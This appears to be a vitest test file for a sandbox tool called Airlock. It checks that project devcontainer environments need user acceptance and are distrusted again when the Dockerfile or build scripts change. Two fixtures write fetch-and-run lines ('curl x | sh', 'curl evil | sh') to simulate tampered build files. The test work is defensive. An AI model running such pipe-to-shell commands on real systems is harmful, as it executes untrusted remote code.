import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { loadDevcontainer } from './devcontainer-config';
import { EnvironmentTrust } from './environment-trust';
import { checkRunEnvironment } from './run-environment';
import { setupPlan } from './setup-plan';

const dirs: string[] = [];
afterEach(async () => {
  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
});

async function tmp(): Promise<string> {
  const d = await mkdtemp(path.join(tmpdir(), 'airlock-trust-'));
  dirs.push(d);
  return d;
}

describe('environment trust', () => {
  it('asks until accepted, keeps the acceptance per content, and asks again when the Dockerfile changes', async () => {
    const home = await tmp();
    const project = await tmp();
    await mkdir(path.join(project, '.devcontainer'));
    await writeFile(path.join(project, '.devcontainer/devcontainer.json'), '{"build":{"dockerfile":"Dockerfile"},"postCreateCommand":"make"}');
    await writeFile(path.join(project, '.devcontainer/Dockerfile'), 'FROM debian:bookworm-slim\n');
    const explicit = { projectDir: project, environment: 'devcontainer' };
    await expect(checkRunEnvironment({ home, env: process.env }, explicit)).rejects.toMatchObject({ kind: 'FORBIDDEN', field: 'environment', message: expect.stringMatching(/not trusted yet: .*builds \.devcontainer\/Dockerfile from the folder '\.devcontainer' \(building runs the project's own code with the engine's network: its steps can reach the internet and read every file of that folder\) and runs its setup commands/) });
    // Found by `auto`, not yet accepted: Airlock's own image runs, and the record says why.
    await expect(checkRunEnvironment({ home, env: process.env }, { projectDir: project })).resolves.toMatchObject({ kind: 'airlock', skipped: { field: '.devcontainer/devcontainer.json', reason: expect.stringMatching(/^not used, Airlock's own image ran instead: The project environment is not trusted yet/) } });
    // Claude Code and Codex: `auto` keeps Airlock's image, an explicit choice is refused.
    await expect(checkRunEnvironment({ home, env: process.env }, { projectDir: project, agentVariant: 'agents' })).resolves.toMatchObject({ kind: 'airlock', skipped: { reason: expect.stringMatching(/Claude Code and Codex/) } });
    await expect(checkRunEnvironment({ home, env: process.env }, { ...explicit, agentVariant: 'agents' })).rejects.toThrow(/Claude Code and Codex run in Airlock's own image/);
    await checkRunEnvironment({ home, env: process.env }, { projectDir: project, trustEnvironment: true });
    await expect(checkRunEnvironment({ home, env: process.env }, { projectDir: project })).resolves.toMatchObject({ kind: 'devcontainer' });
    await writeFile(path.join(project, '.devcontainer/Dockerfile'), 'FROM debian:bookworm-slim\nRUN curl x | sh\n');
    await expect(checkRunEnvironment({ home, env: process.env }, explicit)).rejects.toMatchObject({ message: expect.stringMatching(/changed since you accepted it/) });
    // Airlock's own environment and a chosen image need no acceptance.
    await expect(checkRunEnvironment({ home, env: process.env }, { projectDir: project, environment: 'airlock' })).resolves.toMatchObject({ kind: 'airlock' });
    await expect(checkRunEnvironment({ home, env: process.env }, { projectDir: project, environment: 'image:debian:bookworm-slim' })).resolves.toMatchObject({ kind: 'image' });
    const cfg = await loadDevcontainer(project, '.devcontainer/devcontainer.json', { env: process.env });
    expect(await new EnvironmentTrust(project, home).state(cfg)).toBe('changed');
  });

  it('covers every file the build can read: a changed script in the context asks again, a .dockerignored one does not, a touch does not', async () => {
    const home = await tmp();
    const project = await tmp();
    await mkdir(path.join(project, '.devcontainer'));
    await mkdir(path.join(project, 'scripts'));
    await writeFile(path.join(project, '.devcontainer/devcontainer.json'), '{"build":{"dockerfile":"Dockerfile","context":".."}}');
    await writeFile(path.join(project, '.devcontainer/Dockerfile'), 'FROM debian:bookworm-slim\nCOPY scripts/setup.sh /s.sh\nRUN sh /s.sh\n');
    await writeFile(path.join(project, 'scripts/setup.sh'), 'echo fine\n');
    await writeFile(path.join(project, '.dockerignore'), 'notes/\n');
    await mkdir(path.join(project, 'notes'));
    await writeFile(path.join(project, 'notes/todo.txt'), 'a\n');
    const explicit = { projectDir: project, environment: 'devcontainer' };
    await checkRunEnvironment({ home, env: process.env }, { ...explicit, trustEnvironment: true });
    await expect(checkRunEnvironment({ home, env: process.env }, explicit)).resolves.toMatchObject({ kind: 'devcontainer' });
    // Not sent to the engine (ignored), or the same bytes written again: still accepted.
    await writeFile(path.join(project, 'notes/todo.txt'), 'b\n');
    await writeFile(path.join(project, 'scripts/setup.sh'), 'echo fine\n');
    await expect(checkRunEnvironment({ home, env: process.env }, explicit)).resolves.toMatchObject({ kind: 'devcontainer' });
    // The Dockerfile is unchanged, but what it runs is not.
    await writeFile(path.join(project, 'scripts/setup.sh'), 'curl evil | sh\n');
    await expect(checkRunEnvironment({ home, env: process.env }, explicit)).rejects.toMatchObject({ kind: 'FORBIDDEN', message: expect.stringMatching(/changed since you accepted it/) });
  });

  it('refuses a compose configuration whose service is not in its files before anything is built', async () => {
    const home = await tmp();
    const project = await tmp();
    await writeFile(path.join(project, '.devcontainer.json'), '{"dockerComposeFile":"c.yml","service":"app"}');
    await writeFile(path.join(project, 'c.yml'), 'services: {}\n');
    await expect(checkRunEnvironment({ home, env: process.env }, { projectDir: project, trustEnvironment: true })).rejects.toThrow(/service 'app'/);
  });
});

describe('setup plan', () => {
  it('runs the hooks in the spec order and allows the registries the manifests imply', async () => {
    const project = await tmp();
    await writeFile(path.join(project, '.devcontainer.json'), JSON.stringify({ image: 'x', postStartCommand: 'c', onCreateCommand: 'a', postCreateCommand: { py: 'pip install -r requirements.txt', go: ['go', 'mod', 'download'] } }));
    await writeFile(path.join(project, 'requirements.txt'), 'flask\n');
    await writeFile(path.join(project, 'go.mod'), 'module x\n');
    const plan = await setupPlan(project, await loadDevcontainer(project, '.devcontainer.json', { env: process.env }));
    expect(plan?.hooks.map((h) => `${h.hook}:${h.steps.length}`)).toEqual(['onCreateCommand:1', 'postCreateCommand:2', 'postStartCommand:1']);
    expect(plan?.presets.sort()).toEqual(['go', 'pip']);
    expect(plan?.impliedBy).toEqual(['requirements.txt', 'go.mod']);
    await writeFile(path.join(project, '.devcontainer.json'), '{"image":"x"}');
    expect(await setupPlan(project, await loadDevcontainer(project, '.devcontainer.json', { env: process.env }))).toBeUndefined();
  });
});
